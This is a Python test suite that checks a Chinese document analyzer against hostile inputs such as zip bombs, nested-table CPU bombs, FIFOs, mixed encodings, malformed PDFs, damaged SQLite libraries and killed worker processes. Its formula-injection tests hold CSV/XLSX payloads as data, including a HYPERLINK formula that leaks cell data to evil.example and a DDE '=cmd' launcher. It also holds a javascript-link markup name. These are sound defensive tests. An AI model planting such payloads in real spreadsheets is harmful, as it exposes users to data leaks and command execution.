"""Hostile input (issue 12): every input below is generated here, small on disk, and must end
in a coded error object or a normal report — never a traceback, a hang or a memory blow-up."""
from __future__ import annotations

import csv
import io
import json
import os
import socket
import sqlite3
import subprocess
import sys
import tracemalloc
import zipfile
from pathlib import Path

import docx
import pytest

from analyzer import ingest
from analyzer.errors import JingziError
from analyzer.limits import MAX_DOCX_PARAGRAPHS, MAX_PARAGRAPHS, MAX_TABLE_NESTING

from .conftest import GOOD

ROOT = Path(__file__).resolve().parent.parent
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def peak_memory(fn, *args):
    """(result, peak bytes Python allocated) of ``fn(*args)``, after a warm-up on a normal docx
    so imports and caches are not counted."""
    ingest.read_docx(docx_with())
    tracemalloc.start()
    try:
        result = fn(*args)
    except JingziError as exc:
        result = exc.code
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    return result, peak


def code_of(path) -> str:
    with pytest.raises(JingziError) as info:
        ingest.read_path(path)
    assert " — " in info.value.message  # what happened, then how to fix it
    return info.value.code


# --------------------------------------------------------------------------- generators

def docx_with(body_xml: str | None = None, extra: dict[str, bytes] | None = None,
              streamed: dict[str, int] | None = None) -> bytes:
    """A real .docx (python-docx's template with an image) whose body is ``body_xml``, plus
    ``extra`` members and ``streamed`` members of that many zero bytes (deflated, so tiny)."""
    d = docx.Document()
    d.add_paragraph("一、存在的主要问题")
    d.add_paragraph("调研走马观花，全年下基层仅6次。")
    buf = io.BytesIO()
    d.save(buf)
    out = io.BytesIO()
    with zipfile.ZipFile(buf) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            data = src.read(item)
            if item.filename == "word/document.xml" and body_xml is not None:
                head, rest = data.decode("utf-8").split("<w:body>", 1)
                data = (head + "<w:body>" + body_xml + "<w:sectPr/></w:body></w:document>").encode("utf-8")
            if item.filename not in (extra or {}) and item.filename not in (streamed or {}):
                dst.writestr(item, data)
        for name, data in (extra or {}).items():
            dst.writestr(name, data)
        for name, size in (streamed or {}).items():
            with dst.open(name, "w", force_zip64=True) as fh:
                chunk = b"\0" * (1 << 20)
                for _ in range(size >> 20):
                    fh.write(chunk)
    return out.getvalue()


def paragraph(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def nested_tables(depth: int) -> str:
    """A table whose only cell holds a paragraph and the next table, ``depth`` levels deep."""
    xml = ""
    for level in range(depth, 0, -1):
        xml = f"<w:tbl><w:tr><w:tc>{paragraph(f'第{level}层表格内容')}{xml}</w:tc></w:tr></w:tbl>"
    return xml


def pdf_bytes(lines: list[str]) -> bytes:
    from reportlab.pdfbase import pdfmetrics
    from reportlab.pdfbase.cidfonts import UnicodeCIDFont
    from reportlab.pdfgen import canvas

    pdfmetrics.registerFont(UnicodeCIDFont("STSong-Light"))
    buf = io.BytesIO()
    c = canvas.Canvas(buf)
    c.setFont("STSong-Light", 12)
    for i, line in enumerate(lines):
        c.drawString(72, 800 - 20 * i, line)
    c.save()
    return buf.getvalue()


def encrypted_pdf(algorithm: str, password: str) -> bytes:
    import pypdf

    writer = pypdf.PdfWriter(clone_from=io.BytesIO(pdf_bytes(["一、存在的主要问题", "文山会海问题突出。"])))
    writer.encrypt(user_password=password, owner_password="owner", algorithm=algorithm)
    buf = io.BytesIO()
    writer.write(buf)
    return buf.getvalue()


def raw_pdf(page_extra: str) -> bytes:
    """A minimal one-page PDF written by hand, with ``page_extra`` in the page dictionary."""
    objs = ["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] {page_extra} >>"]
    out = io.BytesIO(b"%PDF-1.4\n")
    out.seek(0, 2)
    offsets = []
    for i, obj in enumerate(objs, 1):
        offsets.append(out.tell())
        out.write(f"{i} 0 obj\n{obj}\nendobj\n".encode())
    xref = out.tell()
    out.write(f"xref\n0 {len(objs) + 1}\n0000000000 65535 f \n".encode())
    out.write("".join(f"{o:010d} 00000 n \n" for o in offsets).encode())
    out.write(f"trailer\n<< /Size {len(objs) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode())
    return out.getvalue()


# --------------------------------------------------------------------------- 2. zip bombs

def test_an_image_that_inflates_to_hundreds_of_megabytes_is_never_inflated(tmp_path):
    path = tmp_path / "图片炸弹.docx"
    path.write_bytes(docx_with(streamed={"word/media/image1.png": 300 << 20}))
    assert path.stat().st_size < 2 << 20
    src, peak = peak_memory(ingest.read_path, path)
    assert src.paragraph_texts() == ["一、存在的主要问题", "调研走马观花，全年下基层仅6次。"]
    assert peak < 30 << 20


def test_a_text_part_that_inflates_hugely_is_refused_before_it_is_read(tmp_path):
    big = tmp_path / "大.docx"
    big.write_bytes(docx_with(streamed={"word/styles.xml": 200 << 20}))  # above the size budget
    dense = tmp_path / "密.docx"  # under the budget, but 5 MB of whitespace from a few KB
    dense.write_bytes(docx_with(extra={"word/numbering.xml": b"<w:numbering " + W.encode() + b">"
                                       + b" " * (5 << 20) + b"</w:numbering>"}))
    for path in (big, dense):
        code, peak = peak_memory(ingest.read_path, path)
        assert code == "zip_bomb"
        assert peak < 30 << 20


def test_a_docx_with_pictures_and_headers_reads_as_before(tmp_path):
    import struct
    import zlib

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    png = (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
           + chunk(b"IDAT", zlib.compress(b"\x00\xff\x00\x00")) + chunk(b"IEND", b""))
    d = docx.Document()
    d.sections[0].header.paragraphs[0].text = "页眉不是正文"
    d.add_paragraph("一、存在的主要问题").runs[0].bold = True
    p = d.add_paragraph("图片前的文字")
    p.add_run().add_picture(io.BytesIO(png))
    p.add_run("图片后的文字")
    path = tmp_path / "图文.docx"
    d.save(str(path))
    src = ingest.read_path(path)
    assert src.paragraph_texts() == ["一、存在的主要问题", "图片前的文字图片后的文字"]
    assert src.heading_hints == {0}


# --------------------------------------------------------------------------- 3. CPU bombs

def test_nested_tables_are_read_once_each(tmp_path):
    path = tmp_path / "嵌套.docx"
    path.write_bytes(docx_with(nested_tables(MAX_TABLE_NESTING) + paragraph("表格之后的段落")))
    texts = ingest.read_path(path).paragraph_texts()
    assert texts == [f"第{level}层表格内容" for level in range(1, MAX_TABLE_NESTING + 1)] + ["表格之后的段落"]


def test_tables_nested_too_deep_are_too_complex(tmp_path):
    path = tmp_path / "深嵌套.docx"
    path.write_bytes(docx_with(nested_tables(14)))
    assert code_of(path) == "too_complex"


def test_too_many_paragraphs_is_too_complex(tmp_path):
    many = tmp_path / "段落多.docx"
    many.write_bytes(docx_with("".join(paragraph(f"第{i}条") for i in range(MAX_DOCX_PARAGRAPHS + 1))))
    empty = tmp_path / "百万空段.docx"  # 6 MB of <w:p/> from a few KB: refused before parsing
    empty.write_bytes(docx_with("<w:p/>" * 1_000_000))
    lines = tmp_path / "行多.txt"
    lines.write_text("\n".join(f"第{i}条问题" for i in range(MAX_PARAGRAPHS + 1)), encoding="utf-8")
    assert [code_of(many), code_of(empty), code_of(lines)] == ["too_complex", "zip_bomb", "too_complex"]


# --------------------------------------------------------------------------- 4. special files

def test_fifo_device_and_socket_are_refused_without_blocking(tmp_path):
    fifo = tmp_path / "管道.txt"
    os.mkfifo(fifo)  # no writer: a blocking open would hang forever
    device = tmp_path / "设备.txt"
    device.symlink_to("/dev/zero")
    sock_path = tmp_path / "s.txt"
    sock = socket.socket(socket.AF_UNIX)
    sock.bind(str(sock_path))
    try:
        assert [code_of(fifo), code_of(device), code_of(sock_path)] == ["not_regular_file"] * 3
    finally:
        sock.close()


# --------------------------------------------------------------------------- 7. names and encodings

def test_a_file_mixing_utf8_and_gbk_lines_is_decoded_per_line(tmp_path):
    lines = GOOD.splitlines()
    data = b"\n".join(line.encode("gbk" if i % 3 == 1 else "utf-8") for i, line in enumerate(lines))
    path = tmp_path / "混合编码.txt"
    path.write_bytes(data + b"\n\xff\xfe\xfa\xe4\xb8")  # and a line no encoding can read
    src = ingest.read_path(path)
    assert src.paragraph_texts()[:len(lines)] == lines
    (mixed,) = [w for w in src.warnings if w["code"] == "mixed_encoding"]
    gbk_lines = sum(1 for i in range(len(lines)) if i % 3 == 1)
    assert f"{gbk_lines} 行按 gb18030" in mixed["message"] and "字节已替换" in mixed["message"]
    assert src.encoding == "mixed"


def test_plain_gbk_file_is_not_reported_as_mixed(tmp_path):
    path = tmp_path / "gbk.txt"
    path.write_bytes(("Title line\n" + GOOD).encode("gbk"))
    src = ingest.read_path(path)
    assert src.encoding == "gb18030" and not src.warnings


def test_a_gbk_file_name_is_shown_as_chinese(tmp_path):
    raw = os.fsencode(tmp_path) + "/对照检查材料.txt".encode("gbk")
    with open(raw, "wb") as fh:
        fh.write(GOOD.encode("utf-8"))
    src = ingest.read_path(os.fsdecode(raw))
    assert src.name == "对照检查材料.txt" and src.file.endswith("/对照检查材料.txt")
    json.dumps(src.name, ensure_ascii=False).encode("utf-8")


# --------------------------------------------------------------------------- 8. PDFs

@pytest.mark.parametrize("algorithm", ["AES-128", "AES-256", "RC4-128"])
def test_pdfs_encrypted_with_an_empty_password_are_read(tmp_path, algorithm):
    path = tmp_path / "加密.pdf"
    path.write_bytes(encrypted_pdf(algorithm, ""))
    assert ingest.read_path(path).paragraph_texts() == ["一、存在的主要问题", "文山会海问题突出。"]


def test_every_pdf_failure_is_an_error_object(tmp_path):
    (tmp_path / "密码.pdf").write_bytes(encrypted_pdf("AES-256", "secret"))
    (tmp_path / "数组.pdf").write_bytes(raw_pdf("/Foo [" + " 0" * 100_001 + "]"))
    (tmp_path / "截断.pdf").write_bytes(pdf_bytes(["一、存在的主要问题"])[:900])
    codes = [code_of(tmp_path / n) for n in ("密码.pdf", "数组.pdf", "截断.pdf")]
    assert codes == ["encrypted", "corrupt_pdf", "corrupt_pdf"]


def test_pdf_text_placed_far_off_the_page_is_read_without_blowing_up(tmp_path):
    """Table detection reads the layout text, where positions become spaces: text drawn at
    x = 10^8 or y = -10^8 must not make a giant string (pypdf caps runs of blanks)."""
    from reportlab.pdfbase import pdfmetrics
    from reportlab.pdfbase.cidfonts import UnicodeCIDFont
    from reportlab.pdfgen import canvas

    pdfmetrics.registerFont(UnicodeCIDFont("STSong-Light"))
    c = canvas.Canvas(str(tmp_path / "远.pdf"))
    c.setFont("STSong-Light", 12)
    for x, y, text in [(72, 700, "一、存在的主要问题"), (1e8, 700, "远处的字"), (72, -1e8, "文山会海问题突出。")]:
        c.drawString(x, y, text)
    c.showPage()
    c.save()
    got = ingest.read_path(tmp_path / "远.pdf")
    assert len(got.text) < 100 and all(t in got.text for t in ("存在的主要问题", "远处的字", "文山会海问题突出"))


# --------------------------------------------------------------------------- 3, 5. time budget and dead workers

def _runaway(x):
    """A C-level loop no signal handler can interrupt: catastrophic regex backtracking."""
    import re

    return bool(re.fullmatch(r"(a+)+b", "a" * 64)) if x == "runaway" else x


def _suicidal(x, marks: str):
    """Kill the worker on "die" (always) and on "once" (only the first time)."""
    import signal

    with open(marks, "a") as fh:
        fh.write(f"{x}\n")
    if x == "die" or x == "once" and Path(marks).read_text().count("once") == 1:
        os.kill(os.getpid(), signal.SIGKILL)
    if x == "boom":
        raise ValueError("a bug")
    return x


def _error_code(args, error):
    return error["code"]


def test_a_runaway_task_gets_timeout_and_the_others_go_on():
    from analyzer.workers import WorkerPool, _noop

    with WorkerPool(2, _noop, (), timeout=1.0, start_method="fork") as pool:
        results = list(pool.map(_runaway, [(i,) for i in ("a", "runaway", "b", "c")], _error_code))
    assert results == ["a", "timeout", "b", "c"]


def test_a_task_that_kills_its_worker_twice_gets_worker_died(tmp_path):
    from analyzer.workers import WorkerPool, _noop

    marks = tmp_path / "marks"
    calls = [(x, str(marks)) for x in ("a", "die", "once", "boom", "b", "c", "d")]
    with WorkerPool(2, _noop, (), start_method="fork") as pool:
        results = list(pool.map(_suicidal, calls, _error_code))
    assert results == ["a", "worker_died", "once", "analysis_failed", "b", "c", "d"]
    attempts = marks.read_text().split()
    assert attempts.count("die") == 2 and attempts.count("once") == 2 and attempts.count("a") == 1


def test_workers_exit_when_their_parent_is_killed(tmp_path):
    script = tmp_path / "parent.py"
    script.write_text(
        "import os, signal, sys, time\n"
        f"sys.path.insert(0, {str(ROOT)!r})\n"
        "from analyzer.workers import WorkerPool, _noop\n"
        "pool = WorkerPool(2, _noop, (), start_method='fork')\n"
        "print(' '.join(str(w.process.pid) for w in pool.workers), flush=True)\n"
        "if os.fork() == 0:  # a helper kills the parent while it waits on its busy workers\n"
        "    time.sleep(1)\n"
        "    os.kill(os.getppid(), signal.SIGKILL)\n"
        "    os._exit(0)\n"
        "list(pool.map(time.sleep, [(600,), (600,)], lambda a, e: e))\n", encoding="utf-8")
    out = tmp_path / "pids"
    with open(out, "w") as fh:
        returncode = subprocess.run([sys.executable, str(script)], stdout=fh, timeout=120).returncode
    assert returncode == -9
    workers = [int(pid) for pid in out.read_text().split()]
    assert len(workers) == 2
    for pid in workers:
        _wait_gone(pid)


def _wait_gone(pid: int) -> None:
    import time

    for _ in range(300):
        try:
            os.kill(pid, 0)
        except ProcessLookupError:
            return
        with open(f"/proc/{pid}/stat") as fh:  # a zombie waits only for init to reap it
            if fh.read().rsplit(")", 1)[1].split()[0] == "Z":
                return
        time.sleep(0.1)
    raise AssertionError(f"worker {pid} outlived its parent")


# --------------------------------------------------------------------------- 6. batch outputs

def _stage(out: Path, files: dict[str, str]) -> None:
    staging = out / ".jingzi" / "staging"
    for rel, text in files.items():
        (staging / rel).parent.mkdir(parents=True, exist_ok=True)
        (staging / rel).write_text(text, encoding="utf-8")


def test_publishing_removes_only_what_jingzi_wrote(tmp_path):
    from analyzer.batch import publish

    out = tmp_path / "out"
    (out / "reports").mkdir(parents=True)
    (out / "reports" / "我的笔记.html").write_text("用户自己的笔记", encoding="utf-8")
    (out / "notes.txt").write_text("用户文件", encoding="utf-8")
    _stage(out, {"index.html": "run1", "results.csv": "run1", "reports/a.txt.html": "run1",
                 "reports/b.txt.html": "run1"})
    publish(out)
    _stage(out, {"index.html": "run2", "results.csv": "run2", "reports/a.txt.html": "run2"})
    publish(out)
    assert sorted(p.relative_to(out).as_posix() for p in out.rglob("*") if ".jingzi" not in p.parts) == [
        "index.html", "notes.txt", "reports", "reports/a.txt.html", "reports/我的笔记.html", "results.csv"]
    assert {(out / f).read_text(encoding="utf-8") for f in ("index.html", "results.csv", "reports/a.txt.html")} \
        == {"run2"}
    assert not (out / ".jingzi" / "staging").exists()


def test_a_publication_killed_half_way_never_mixes_runs_and_is_finished_next_time(tmp_path):
    from analyzer import batch as batch_module

    out = tmp_path / "out"
    _stage(out, {"index.html": "run1", "results.jsonl": "run1", "reports/a.txt.html": "run1",
                 "reports/b.txt.html": "run1"})
    batch_module.publish(out)
    _stage(out, {"index.html": "run2", "results.jsonl": "run2", "reports/c.txt.html": "run2"})
    moved = []

    def killed_after_one_move(src, dst):
        if moved:
            raise KeyboardInterrupt  # the run is killed here
        moved.append(dst)
        os.rename(src, dst)

    with pytest.MonkeyPatch.context() as mp:
        mp.setattr(batch_module.os, "replace", killed_after_one_move)
        with pytest.raises(KeyboardInterrupt):
            batch_module.publish(out)
    # old tables are gone before any new page arrives: no index of run 1 beside a page of run 2
    assert not (out / "index.html").exists() and not (out / "results.jsonl").exists()
    batch_module.finish_publishing(out)
    assert sorted(p.name for p in (out / "reports").iterdir()) == ["c.txt.html"]
    assert (out / "index.html").read_text(encoding="utf-8") == "run2"
    manifest = sqlite3.connect(out / ".jingzi" / batch_module.MANIFEST)
    assert sorted(rel for rel, in manifest.execute("SELECT rel FROM published")) == [
        "index.html", "reports/c.txt.html", "results.jsonl"]


# --------------------------------------------------------------------------- 1. formula injection

def test_every_text_cell_of_csv_and_xlsx_is_neutralised(tmp_path):
    from openpyxl import load_workbook

    from analyzer.batch import summarise, write_csv, write_xlsx

    evil = '=HYPERLINK("http://evil.example/?q="&B2,"详情")'
    rows = []
    for name, file, source in ((evil, "/docs/" + evil, "+1+2"), ("-3+4.txt", "@SUM(A1)", "\tx"),
                               ("\r=1.txt", "normal/path.txt", "＝1+1")):
        d = {"name": name, "file": file, "chars": 100, "copy": {"ratio": 0.3, "sources": [
            {"source": source, "ratio": 0.3}]}, "warnings": [{"code": "=cmd|' /C calc'!A0", "message": ""}]}
        row = summarise(d)
        row["page"] = "reports/x.html"
        rows.append(row)
    write_csv(rows, tmp_path / "r.csv")
    write_xlsx(rows, tmp_path / "r.xlsx")
    with open(tmp_path / "r.csv", encoding="utf-8-sig", newline="") as fh:
        csv_cells = [c for row in csv.reader(fh) for c in row]
    sheet = load_workbook(tmp_path / "r.xlsx").active
    xlsx_cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    assert all(c.data_type != "f" for c in xlsx_cells)
    for cells in (csv_cells, [c.value for c in xlsx_cells if isinstance(c.value, str)]):
        assert not [c for c in cells if c and c[0] in "=+-@\t\r＝"]
        assert "'" + evil in cells and "'@SUM(A1)" in cells and "'\tx" in cells and "'-3+4.txt" in cells
    assert 0.3 in [c.value for c in xlsx_cells]  # numbers stay numbers


# --------------------------------------------------------------------------- 9. the library

def _add_all(path: str, docs: list[tuple[str, str]], barrier, results) -> None:
    from analyzer.library import Library

    barrier.wait()
    with Library(path, batch=2) as lib:
        results.put(lib.add_many(docs))


def test_concurrent_adds_of_the_same_documents_skip_duplicates_and_lose_nothing(tmp_path):
    import multiprocessing

    from analyzer.library import Library

    lines = GOOD.splitlines()
    docs = [(f"范文{i:02d}.txt", "\n".join(lines[i % len(lines):] + lines[:i % len(lines)]) + f"\n第{i}篇。")
            for i in range(24)]
    path = str(tmp_path / "lib.sqlite")
    ctx = multiprocessing.get_context("fork")
    barrier, results = ctx.Barrier(2), ctx.Queue()
    procs = [ctx.Process(target=_add_all, args=(path, order, barrier, results)) for order in (docs, docs)]
    for p in procs:
        p.start()
    for p in procs:
        p.join(300)
    assert [p.exitcode for p in procs] == [0, 0]
    assert results.get(timeout=5) + results.get(timeout=5) == len(docs)
    with Library(path) as lib:
        assert sorted(d["name"] for d in lib.list()) == sorted(n for n, _ in docs)
        indexed = lib.db.execute("SELECT COUNT(DISTINCT doc) FROM postings").fetchone()[0]
    assert indexed == len(docs)  # every document kept its fingerprints


@pytest.fixture()
def damaged_libraries(tmp_path):
    from analyzer.library import Library

    garbage = tmp_path / "garbage.sqlite"
    garbage.write_bytes(b"this is not a database at all " * 100)
    truncated = tmp_path / "truncated.sqlite"
    with Library(truncated) as lib:
        lib.add("范文.txt", GOOD)
    data = truncated.read_bytes()
    truncated.write_bytes(data[:100] + b"\xff" * 200 + data[300:4096])
    for suffix in ("-wal", "-shm"):
        Path(f"{truncated}{suffix}").unlink(missing_ok=True)
    other = tmp_path / "other.sqlite"
    import sqlite3

    con = sqlite3.connect(other)
    con.execute("CREATE TABLE invoices (id INTEGER)")
    con.commit()
    con.close()
    return [garbage, truncated, other]


def test_a_damaged_library_is_a_coded_error_in_check_batch_and_list(tmp_path, damaged_libraries):
    from click.testing import CliRunner

    from analyzer.cli import main

    doc = tmp_path / "材料.txt"
    doc.write_text(GOOD, encoding="utf-8")
    for lib in damaged_libraries:
        for args in (["check", str(doc), "--json", "--library", str(lib)],
                     ["batch", str(doc), "--out", str(tmp_path / "out"), "--library", str(lib)],
                     ["library", "list", "--library", str(lib)],
                     ["library", "add", str(doc), "--library", str(lib)]):
            result = CliRunner().invoke(main, args)
            assert result.exit_code == 2, (args, result.output, result.exception)
            assert "[corrupt_library]" in result.output and "library add" in result.output
            assert not isinstance(result.exception, Exception) or isinstance(result.exception, SystemExit)


# --------------------------------------------------------------------------- check end to end

def test_check_survives_fifos_gbk_names_and_a_document_over_its_time_budget(tmp_path):
    from click.testing import CliRunner

    from analyzer.cli import main

    fifo = tmp_path / "管道.txt"
    os.mkfifo(fifo)
    gbk = os.fsencode(tmp_path) + "/对照检查材料.txt".encode("gbk")
    with open(gbk, "wb") as fh:
        fh.write(GOOD.encode("utf-8"))
    big = tmp_path / "长.txt"  # valid but long: far more than a second of analysis
    big.write_text(GOOD * 500, encoding="utf-8")  # 385,000 characters, under every limit
    empty = tmp_path / "空.txt"
    empty.write_bytes(b"")
    result = CliRunner().invoke(main, ["check", "--json", str(fifo), os.fsdecode(gbk)])
    lines = [json.loads(line) for line in result.output.splitlines()]
    assert result.exit_code == 1 and [d.get("error", {}).get("code") for d in lines] == ["not_regular_file", None]
    assert lines[1]["name"] == "对照检查材料.txt" and lines[1]["file"].endswith("/对照检查材料.txt")
    result = CliRunner().invoke(main, ["check", "--json", "--timeout", "1", str(big), str(empty)])
    lines = [json.loads(line) for line in result.output.splitlines()]
    assert result.exit_code == 1 and [d["error"]["code"] for d in lines] == ["timeout", "empty"]
    assert "1 s" in lines[0]["error"]["message"] and "--timeout" in lines[0]["error"]["message"]


# --------------------------------------------------------------------------- batch end to end

def _workers_of(pid: int) -> list[int]:
    """Pids of the spawned worker processes whose parent is ``pid``."""
    found = []
    for entry in Path("/proc").iterdir():
        try:
            stat_line = (entry / "stat").read_text()
            cmdline = (entry / "cmdline").read_bytes()
        except (OSError, ValueError):
            continue
        if int(stat_line.rsplit(")", 1)[1].split()[1]) == pid and b"spawn_main" in cmdline:
            found.append(int(entry.name))
    return found


def test_batch_gives_every_hostile_input_a_row_even_when_a_worker_is_killed(tmp_path):
    import signal
    import time

    from analyzer.library import Library

    from .test_batch import material

    docs = tmp_path / "docs"
    docs.mkdir()
    evil = '=HYPERLINK("http://evil.example/?q="&B2,"详情")'
    (docs / "=1+1.txt").write_text(GOOD, encoding="utf-8")
    (docs / "-2+3.txt").write_text("\n".join(material("b001")), encoding="utf-8")
    (docs / "抄库.txt").write_text("\n".join(material("c001")[:8]), encoding="utf-8")
    with open(os.fsencode(docs) + "/对照检查材料.txt".encode("gbk"), "wb") as fh:
        fh.write("\n".join(material("a001")).encode("utf-8"))
    lines = GOOD.splitlines()
    (docs / "混合.txt").write_bytes(b"\n".join(ln.encode("gbk" if i % 2 else "utf-8") for i, ln in enumerate(lines)))
    (docs / "炸弹.docx").write_bytes(docx_with(extra={"word/numbering.xml": b" " * (5 << 20)}))
    (docs / "嵌套.docx").write_bytes(docx_with(nested_tables(14)))
    (docs / "加密.pdf").write_bytes(encrypted_pdf("AES-256", ""))
    (docs / "数组.pdf").write_bytes(raw_pdf("/Foo [" + " 0" * 100_001 + "]"))
    fifo = tmp_path / "管道.txt"
    os.mkfifo(fifo)
    library = tmp_path / "refs.sqlite"
    with Library(library) as lib:
        lib.add(evil, "\n".join(material("c001")))
    out = tmp_path / "out"
    (out / "reports").mkdir(parents=True)
    (out / "reports" / "我的笔记.html").write_text("用户自己的笔记", encoding="utf-8")

    proc = subprocess.Popen([sys.executable, "-m", "analyzer", "batch", str(docs), str(fifo), "--out", str(out),
                             "--library", str(library), "--jobs", "2"], cwd=ROOT, stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE)
    killed = None
    while killed is None and proc.poll() is None:
        for pid in _workers_of(proc.pid)[:1]:
            os.kill(pid, signal.SIGKILL)
            killed = pid
        time.sleep(0.2)
    stdout, stderr = proc.communicate(timeout=900)
    assert killed is not None
    assert b"Traceback" not in stderr, stderr.decode("utf-8", "replace")
    assert proc.returncode == 1, stderr.decode("utf-8", "replace")
    rows = [json.loads(line) for line in (out / "results.jsonl").read_text(encoding="utf-8").splitlines()]
    codes = {d["name"]: d.get("error", {}).get("code") for d in rows}
    assert codes == {"-2+3.txt": None, "=1+1.txt": None, "加密.pdf": None, "嵌套.docx": "too_complex",
                     "对照检查材料.txt": None, "抄库.txt": None, "数组.pdf": "corrupt_pdf", "混合.txt": None,
                     "炸弹.docx": "zip_bomb", "管道.txt": "not_regular_file"}
    by_name = {d["name"]: d for d in rows}
    assert by_name["抄库.txt"]["copy"]["sources"][0]["source"] == evil
    assert [w["code"] for w in by_name["混合.txt"]["warnings"]][:1] == ["mixed_encoding"]
    assert (out / "reports" / "我的笔记.html").read_text(encoding="utf-8") == "用户自己的笔记"
    assert (out / "reports" / "对照检查材料.txt.html").exists()
    with open(out / "results.csv", encoding="utf-8-sig", newline="") as fh:
        table = {r["文件 name"]: r for r in csv.DictReader(fh)}
    assert "'=1+1.txt" in table and table["抄库.txt"]["最大来源 top_source"] == "'" + evil


def test_names_are_printed_as_they_are(tmp_path):
    from click.testing import CliRunner
    from rich.console import Console

    from analyzer.cli import main
    from analyzer.render import render
    from analyzer.report import Report

    console = Console(record=True, width=200)
    error = {"code": "empty", "message": "文件为空"}
    render(Report.failed("x", "[link=javascript:alert(1)]材料.txt", error), console)
    assert "[link=javascript:alert(1)]材料.txt  [empty] 文件为空" in console.export_text()
    raw = os.fsencode(tmp_path) + "/范文[red].txt".encode("gbk")
    with open(raw, "wb") as fh:
        fh.write(GOOD.encode("utf-8"))
    library = str(tmp_path / "lib.sqlite")
    result = CliRunner().invoke(main, ["library", "add", os.fsdecode(raw), "--library", library])
    assert result.exit_code == 0, result.output
    result = CliRunner().invoke(main, ["library", "list", "--library", library])
    assert "范文[red].txt" in result.output


def test_a_library_locked_too_long_is_a_coded_error(tmp_path, monkeypatch):
    import sqlite3

    from click.testing import CliRunner

    from analyzer import library as library_module
    from analyzer.cli import main

    path = tmp_path / "lib.sqlite"
    with library_module.Library(path):
        pass
    doc = tmp_path / "材料.txt"
    doc.write_text(GOOD, encoding="utf-8")
    holder = sqlite3.connect(path)
    holder.execute("BEGIN IMMEDIATE")  # another process in the middle of a long write
    monkeypatch.setattr(library_module, "BUSY_SECONDS", 0.2)
    try:
        result = CliRunner().invoke(main, ["library", "add", str(doc), "--library", str(path)])
    finally:
        holder.rollback()
        holder.close()
    assert result.exit_code == 2 and "[library_busy]" in result.output, (result.output, result.exception)
